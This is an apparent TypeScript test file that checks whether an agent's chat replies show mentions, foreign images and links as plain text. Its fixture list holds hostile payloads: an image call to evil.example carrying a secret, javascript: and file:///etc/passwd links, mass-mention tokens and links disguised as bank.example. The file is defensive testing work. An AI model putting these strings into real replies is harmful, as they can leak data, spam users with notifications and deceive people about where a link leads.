/**
 * Checks that an agent's text cannot notify people, cannot load content from foreign addresses, and cannot contain
 * links that deceive.
 */

import { labelMisleads } from '../kit/ladder.ts';
import type { Live } from '../kit/rig.ts';
import type { ReplyDocument } from '../kit.ts';
import { type Check, lacks } from './check.ts';
import { inTime } from './limits.ts';
import { begin } from './play.ts';
import type { Random } from './random.ts';
import type { Stage } from './stage.ts';
import { expectSame } from './violation.ts';

/** The host in all addresses of hostile texts. */
const EVIL = 'evil.example';

/** Texts from which some chat would make a mention, an image or a link. A rig adds those of its own chat. */
const texts: readonly string[] = [
  '@everyone',
  '@here',
  '@channel',
  '@all',
  '@room',
  '<!channel>',
  '<!here|here>',
  '<!everyone>',
  '<!subteam^S1|@team>',
  '<@U1>',
  '<@!1>',
  '<@&1>',
  '<at>everyone</at>',
  '<at id="0">Ada</at>',
  '@ada',
  '[@all](mention://all)',
  `![chart](https://${EVIL}/p.png?secret=1)`,
  `![chart][c]\n\n[c]: https://${EVIL}/p.png`,
  `<img src="https://${EVIL}/p.png">`,
  '[open](javascript:alert(1))',
  '[open](JaVaScRiPt:alert(1))',
  '<javascript:alert(1)>',
  '[open](data:text/html,<script>1</script>)',
  '[open](vbscript:x)',
  '[open](file:///etc/passwd)',
  `[https://bank.example](https://${EVIL}/)`,
  `<https://${EVIL}/|https://bank.example>`,
  `[bank.example](https://bank.example@${EVIL}/)`,
  `<a href="https://${EVIL}/">bank.example</a>`,
  `[bank\u2024example](https://${EVIL}/)`,
  '```\n@everyone <!channel>\n```\n@everyone',
  '| a | b |\n|---|---|\n| @everyone | <!channel> |',
];

const proves = 'is shown as plain text, also while the answer grows';

export const hostile: readonly Check[] = [
  {
    id: 'hostile.text',
    proves: `A mention, foreign image or deceptive link in an answer ${proves}`,
    missing: lacks('live'),
    async run(stage, random) {
      for (const text of [...texts, ...(stage.rig.hostile ?? [])]) await grow(stage, text, random);
    },
  },
  {
    id: 'hostile.members',
    proves:
      'A mention, foreign image or deceptive link in steps, sources, notices and suggestions is plain text',
    missing: lacks('live'),
    async run(stage) {
      const all = [...texts, ...(stage.rig.hostile ?? [])];
      for (const text of all) await show(stage, text, membersOf(text));
    },
  },
];

/** Shows the text in pieces, and looks at the reply after each. */
async function grow(stage: Stage, text: string, random: Random): Promise<void> {
  const play = await begin(stage);
  for (let at = 0; at < text.length; ) {
    const size = 1 + Math.floor(random() * text.length);
    play.change({ kind: 'append', text: text.slice(at, at + size) });
    at += size;
    await play.comeToRest();
    await expectPlain(stage, text, play.turn);
  }
  play.end('done');
  await play.comeToRest();
  await expectPlain(stage, text, play.turn);
}

async function show(stage: Stage, text: string, members: Partial<ReplyDocument>): Promise<void> {
  const play = await begin(stage);
  play.set({ text: 'An answer.', state: 'writing', ...members });
  await play.comeToRest();
  play.end('done');
  await play.comeToRest();
  await expectPlain(stage, text, play.turn);
}

const membersOf = (text: string): Partial<ReplyDocument> => ({
  steps: [{ id: '1', name: text, detail: text, state: 'done' }],
  sources: [
    { key: 's1', title: text, kind: 'document', mark: 1, link: 'javascript:alert(1)', fragments: [{ text }] },
  ],
  notices: [{ tone: 'info', text }],
  suggestions: [text],
});

async function expectPlain(
  stage: Stage,
  text: string,
  turn: Parameters<Stage['questionOf']>[0],
): Promise<void> {
  const question = stage.questionOf(turn);
  const live = await inTime('"live"', async () => stage.rig.live?.(question));
  if (live === undefined) return;
  expectSame(`The text ${JSON.stringify(text)} became a mention, an image or a link.`, faultsOf(live), []);
}

/** Describes, in words, the mentions, images and links that the reply must not contain. */
function faultsOf({ mentions, images, links }: Live): readonly string[] {
  return [
    ...mentions.map((name) => `a mention of ${name}`),
    ...images.filter((address) => address.includes(EVIL)).map((address) => `an image from ${address}`),
    ...links.flatMap(({ label, address }) => {
      const host = hostOf(address);
      // The label is the address itself, so people see where the link leads. A client may cut the address at a
      // character that is not valid in it.
      if (label === address && /^https?:/i.test(address)) return [];
      if (host === undefined) return [`a link to ${address}`];
      const isNamed = label.includes(host);
      return labelMisleads(label, address) && !isNamed
        ? [`a link to ${address} with the label ${label}`]
        : [];
    }),
  ];
}

/** Returns the host that the link opens; undefined for a link that the chat must not contain. */
function hostOf(address: string): string | undefined {
  const url = URL.parse(address);
  if (url === null || !['http:', 'https:', 'mailto:'].includes(url.protocol)) return undefined;
  return url.username === '' ? url.host || url.pathname : undefined;
}
